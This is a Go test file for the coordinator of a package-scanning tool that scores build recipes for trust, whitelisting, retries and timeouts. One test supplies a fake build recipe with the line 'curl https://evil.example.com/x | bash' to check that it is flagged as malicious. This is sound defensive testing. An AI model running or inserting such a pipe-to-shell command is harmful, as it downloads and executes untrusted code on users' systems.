package core

import (
	"context"
	"fmt"
	"sync/atomic"
	"testing"
	"time"

	"github.com/pkgguard/pkgguard/schema"
	"github.com/stretchr/testify/assert"
)

func TestCoordinatorWhitelistShortCircuitsScan(t *testing.T) {
	source := &fakeSource{build: func(context.Context, string) (*schema.PackageContext, error) {
		t.Fatal("whitelisted package must not reach the recipe source")
		return nil, nil
	}}
	coordinator := NewCoordinator(source, NewRegistry(testStore(t)), noFilter(), map[string]bool{"trusted-pkg": true})

	result := coordinator.Scan(context.Background(), "trusted-pkg")

	assert.Equal(t, 100, result.Score)
	assert.Equal(t, schema.TierTrusted, result.Tier)
	assert.Empty(t, result.Error)
}

func TestCoordinatorScanBuildFailureBecomesErrorResult(t *testing.T) {
	source := &fakeSource{build: func(context.Context, string) (*schema.PackageContext, error) {
		return nil, ErrNotFound
	}}
	coordinator := NewCoordinator(source, NewRegistry(testStore(t)), noFilter(), nil)

	result := coordinator.Scan(context.Background(), "missing-pkg")

	assert.Equal(t, ErrNotFound.Error(), result.Error)
	assert.Empty(t, result.Tier)
}

func TestCoordinatorScanCleanPackageIsTrusted(t *testing.T) {
	source := &fakeSource{build: func(_ context.Context, name string) (*schema.PackageContext, error) {
		return &schema.PackageContext{Name: name, Metadata: &schema.CommunityMetadata{
			Votes: 100, Popularity: 5, Maintainer: "alice", UpstreamURL: "https://example.com/foo", License: "MIT",
		}}, nil
	}}
	coordinator := NewCoordinator(source, NewRegistry(testStore(t)), noFilter(), nil)

	result := coordinator.Scan(context.Background(), "clean-pkg")

	assert.Empty(t, result.Error)
	assert.Equal(t, schema.TierTrusted, result.Tier)
	assert.Equal(t, 100, result.Score)
}

func TestCoordinatorScanMaliciousOverrideGate(t *testing.T) {
	source := &fakeSource{build: func(_ context.Context, name string) (*schema.PackageContext, error) {
		return &schema.PackageContext{Name: name, PkgbuildContent: "curl https://evil.example.com/x | bash\n"}, nil
	}}
	coordinator := NewCoordinator(source, NewRegistry(testStore(t)), noFilter(), nil)

	result := coordinator.Scan(context.Background(), "evil-pkg")

	assert.Empty(t, result.Error)
	assert.Equal(t, schema.TierMalicious, result.Tier)
	assert.Equal(t, 0, result.Score)
}

func TestCoordinatorScanWithTimeoutWhitelistShortCircuit(t *testing.T) {
	source := &fakeSource{build: func(context.Context, string) (*schema.PackageContext, error) {
		t.Fatal("whitelisted package must not reach the recipe source")
		return nil, nil
	}}
	coordinator := NewCoordinator(source, NewRegistry(testStore(t)), noFilter(), map[string]bool{"trusted-pkg": true})

	result := coordinator.ScanWithTimeout(context.Background(), "trusted-pkg", time.Second)

	assert.Equal(t, schema.TierTrusted, result.Tier)
}

func TestCoordinatorScanWithTimeoutRetriesNetworkFailure(t *testing.T) {
	var attempts int32
	source := &fakeSource{build: func(_ context.Context, name string) (*schema.PackageContext, error) {
		n := atomic.AddInt32(&attempts, 1)
		if n < 2 {
			return nil, fmt.Errorf("dial failed: %w", ErrNetworkFailure)
		}
		return &schema.PackageContext{Name: name}, nil
	}}
	coordinator := NewCoordinator(source, NewRegistry(testStore(t)), noFilter(), nil)

	result := coordinator.ScanWithTimeout(context.Background(), "flaky-pkg", 5*time.Second)

	assert.Empty(t, result.Error)
	assert.Equal(t, int32(2), atomic.LoadInt32(&attempts))
}

func TestCoordinatorScanWithTimeoutDoesNotRetryNonNetworkError(t *testing.T) {
	var attempts int32
	source := &fakeSource{build: func(context.Context, string) (*schema.PackageContext, error) {
		atomic.AddInt32(&attempts, 1)
		return nil, ErrNotFound
	}}
	coordinator := NewCoordinator(source, NewRegistry(testStore(t)), noFilter(), nil)

	result := coordinator.ScanWithTimeout(context.Background(), "missing-pkg", time.Second)

	assert.Equal(t, ErrNotFound.Error(), result.Error)
	assert.Equal(t, int32(1), atomic.LoadInt32(&attempts))
}

func TestCoordinatorScanWithTimeoutExpiredDeadlineIsError(t *testing.T) {
	source := &fakeSource{build: func(ctx context.Context, _ string) (*schema.PackageContext, error) {
		<-ctx.Done()
		return nil, ctx.Err()
	}}
	coordinator := NewCoordinator(source, NewRegistry(testStore(t)), noFilter(), nil)

	result := coordinator.ScanWithTimeout(context.Background(), "stuck-pkg", 10*time.Millisecond)

	assert.Equal(t, "timeout", result.Error)
}
